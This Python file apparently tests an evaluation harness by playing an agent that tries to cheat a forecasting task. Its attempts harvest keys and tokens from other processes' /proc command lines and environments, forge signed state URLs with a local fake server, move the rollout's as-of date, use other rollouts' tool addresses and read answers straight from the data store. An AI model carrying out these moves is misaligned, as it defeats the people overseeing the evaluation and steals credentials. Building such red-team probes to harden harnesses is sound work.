"""What an agent that writes Python tries against the task channel and the tools.

The agent writes this file into its box and runs `python3 reach.py NAME SERIES PERIOD`; it needs
only the standard library. Each attempt prints what it got, and the test reads that. On the host,
where the subprocess runtime lets it see every process, it keeps to those of its own run.
"""

import hashlib
import hmac
import http.client
import json
import os
import re
import sys
import threading
import urllib.error
import urllib.parse
import urllib.request
from http.server import BaseHTTPRequestHandler, HTTPServer

LATER = "2016-12-31"  # after all of the store, and not so far that the tools refuse it
ROUTE = "vf_state_route"


def words(pid, name):
    """The NUL-separated words of a file of a process."""
    try:
        with open(f"/proc/{pid}/{name}", "rb") as file:
            return file.read().decode(errors="replace").split("\0")
    except OSError:
        return []


def parent(pid):
    try:
        with open(f"/proc/{pid}/stat") as file:
            return int(file.read().rpartition(")")[2].split()[1])
    except OSError:
        return 0


def ancestors(pid):
    while pid > 0:
        yield pid
        pid = parent(pid)


def family():
    """The processes of this run: on a host those under its vf-eval, in a box all."""
    chain = list(ancestors(os.getpid()))
    roots = [pid for pid in chain if any("vf-eval" in word for word in words(pid, "cmdline"))]
    pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return [pid for pid in pids if not roots or roots[-1] in ancestors(pid)]


def option(pid, name):
    """An option of a chat program's command line, where the harness puts its secrets."""
    found = [word for word in words(pid, "cmdline") if word.startswith(f"--{name}=")]
    return found[0].partition("=")[2] if found else None


def tools_url(pid):
    servers = json.loads(option(pid, "mcp-config") or "{}").get("mcpServers", {})
    return next((server["url"] for server in servers.values()), None)


def own():
    """The chat program that runs this command."""
    return next(pid for pid in ancestors(os.getpid()) if option(pid, "base-url"))


def secrets():
    """Every word that could open the task channel, with the route it would open it for."""
    me, url = own(), tools_url(own())
    query = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query))
    found = {option(me, "api-key"), *query.values()}
    for pid in family():
        found |= {word for word in words(pid, "cmdline") if 15 < len(word) < 200}
        for word in words(pid, "environ"):
            name, _, value = word.partition("=")
            if re.search("secret|token|key|proxy", name, re.I):
                found |= {value, urllib.parse.urlsplit(value).password}
    usable = {one for one in found if one and one.isascii() and one.isprintable()}
    return sorted(usable), query.get(ROUTE, "")


def send(url, method="GET", body=None, headers=()):
    """Status and text of a request, or why there is none."""
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data, dict(headers), method=method)
    if data is not None:
        request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=15) as reply:
            return reply.status, reply.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, str(error)
    except (OSError, http.client.HTTPException) as error:
        return 0, str(error)


def call(url, tool, **arguments):
    """The text of a tool's answer, asked for by hand."""
    params = {"name": tool, "arguments": arguments}
    body = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}
    accept = {"Accept": "application/json, text/event-stream"}
    status, text = send(url, "POST", body, accept)
    try:
        answer = json.loads(text)
        content = answer["result"]["content"]
    except (ValueError, KeyError):
        return f"{status} {text[:300]}"
    return "\n".join(part.get("text", "") for part in content)


def ask(url):
    """The newest values of the target."""
    return call(url, "observations", series_ids=[SERIES], last=3)


def peek(url):
    """The value that the task asks for, which has no release yet."""
    return call(url, "observations", series_ids=[SERIES], start=PERIOD, end=PERIOD)


def with_query(url, query):
    return urllib.parse.urlsplit(url)._replace(query=urllib.parse.urlencode(query)).geturl()


def channels():
    """Every address at which the task channel may be."""
    me, url = own(), tools_url(own())
    query = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query))
    bases = {re.sub("/v1/?$", "", option(me, "base-url")), re.sub("/mcp$", "", url.split("?")[0])}
    if "vf_state_url" in query:
        bases.add(re.sub("/state$", "", query["vf_state_url"]))
    return sorted(bases)


def opened_with(path, method="GET", body=None):
    """Address, headers and text of every request of a path that the channel answered with 200."""
    words_to_try, route = secrets()
    for base in channels():
        for secret in words_to_try:
            for extra in ({}, {"X-Verifiers-State-Route": route}):
                headers = {"Authorization": f"Bearer {secret}", **extra}
                status, text = send(base + path, method, body, headers)
                if status == 200:
                    yield base + path, headers, text


def state():
    """The rollout's state, if the channel gives it; else a guess."""
    for url, headers, text in opened_with("/state"):
        return url, headers, json.loads(text)
    return None, None, {"as_of": "", "series_id": SERIES, "store": "", "lookups": 0}


# --- The attempts


def by_hand():
    print(ask(tools_url(own())))


def future():
    url = tools_url(own())
    print(call(url, "observations", series_ids=[SERIES], start=PERIOD, end=LATER, last=240))
    print(call(url, "revisions", series_id=SERIES, period=PERIOD))
    print(call(url, "releases", series_id=SERIES, last=240))


def extra():
    url = tools_url(own())
    for name in ("as_of", "date", "vintage", "realtime_start", "realtime_end", "state", "store"):
        print(call(url, "observations", series_ids=[SERIES], last=3, **{name: LATER}))
        print(call(url, "revisions", series_id=SERIES, period=PERIOD, **{name: LATER}))


def stripped():
    print(ask(tools_url(own()).split("?")[0]))


def mangled():
    url = tools_url(own())
    query = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query))
    for name in query:
        print(ask(with_query(url, {k: v for k, v in query.items() if k != name})))
        print(ask(with_query(url, {**query, name: query[name] + "x"})))
        print(ask(with_query(url, [*query.items(), (name, query[name])])))
    print(ask(with_query(url, dict.fromkeys(query, ""))))
    print(ask(with_query(url, {"as_of": LATER, "store": state()[2]["store"]})))


def forged():
    """A state of the agent's own, on a server of its own, signed with every word it finds."""
    mine = json.dumps({**state()[2], "as_of": LATER}).encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Length", str(len(mine)))
            self.end_headers()
            self.wfile.write(mine)

        do_PUT = do_GET

        def log_message(self, *arguments):
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    place, route = f"http://127.0.0.1:{server.server_port}/state", "mine"
    url, (keys, _) = tools_url(own()), secrets()
    own_query = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query))
    message = f"vf-state-v1\0{place}\0{route}".encode()
    signatures = {hmac.new(key.encode(), message, hashlib.sha256).hexdigest() for key in keys}
    answers = set()
    for signature in sorted(signatures | {own_query["vf_state_signature"], ""}):
        query = {"vf_state_url": place, ROUTE: route, "vf_state_signature": signature}
        answers.add(peek(with_query(url, query)))
    print("\n".join(sorted(answers)))


def other():
    """The tools through the address of another rollout, if one can be found."""
    mine = tools_url(own())
    urls = {tools_url(pid) for pid in family() if option(pid, "mcp-config")} - {mine, None}
    print(len(urls), "addresses of other rollouts")
    for url in sorted(urls):
        print(peek(url))


def task():
    for path in ("/task", "/v1/task"):
        for url, _, text in opened_with(path):
            print("OPEN", url, text[:300])


def read_state():
    for url, _, text in opened_with("/state"):
        print("OPEN", url, text[:300])


def move():
    """Put a later as-of date into the rollout's state, then ask again."""
    url, headers, held = state()
    moved = {**held, "as_of": LATER}
    if url is not None:
        send(url, "PUT", moved, headers)
    else:
        for _ in opened_with("/state", "PUT", moved):
            break
    future()
    if url is not None:
        send(url, "PUT", held, headers)


def store():
    """The outcome from a store, wherever an environment or a folder names one."""
    places = set()
    for pid in family():
        for word in words(pid, "environ"):
            places |= set(re.findall(r'"store": ?"([^"]+)"', word))
            places |= set(re.findall(r"^NOWCAST_ALFRED_STORE=(.+)", word))
    print(len(places), "stores named")
    for place in sorted(places):
        files = [name for name in os.listdir(f"{place}/vintages") if name.startswith(f"{SERIES}-")]
        import pyarrow.parquet as pq  # the host has it

        rows = pq.read_table(f"{place}/vintages/{files[0]}").to_pylist()
        first = next(row for row in rows if str(row["period"]) == PERIOD)
        print(f"{first['period']},{first['value']:.8g}")


if __name__ == "__main__":
    name, SERIES, PERIOD = sys.argv[1:]
    globals()[name]()
    print("THE END")
